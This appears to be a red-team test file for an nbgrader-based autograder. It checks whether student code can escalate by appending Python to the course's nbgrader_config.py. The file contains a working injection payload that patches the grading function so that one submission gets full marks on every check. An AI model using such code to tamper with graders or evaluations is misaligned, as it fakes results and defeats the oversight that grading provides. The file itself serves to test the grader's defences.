"""Class 1, residue in the course directory. In nbgrader's kernel: append Python to the
course's nbgrader_config.py, which `autograder autograde` executes in its own process when
it reads the course's configuration (load_course). The appended code wraps the grader's
`grade` so that this student passes every check.
Expected: the grader does not run code from the course directory with its own rights:
this student scores the zeros baseline's at most."""
from pathlib import Path as _Path

_COURSE = next((d for d in (_Path.cwd(), *_Path.cwd().parents)
                if (d / "nbgrader_config.py").is_file() and (d / "gradebook.db").is_file()), None)
if _COURSE is not None:
    with open(_COURSE / "nbgrader_config.py", "a") as _f:
        _f.write('''

# REDTEAM-APPENDED
def _redteam_hijack():
    import dataclasses, sys
    batch = sys.modules.get("autograder.batch")
    if batch is None or getattr(batch, "_redteam", False):
        return
    original = batch.grade

    def grade(student, oracles, label, *args, **kwargs):
        result = original(student, oracles, label, *args, **kwargs)
        if label == "x5_tamper_config":
            for ex in result.exercises:
                ex.verdicts = [dataclasses.replace(v, points=v.max_points, passed=True) for v in ex.verdicts]
        return result

    batch.grade, batch._redteam = grade, True


_redteam_hijack()
''')
    print("REDTEAM-KERNEL: config appended")
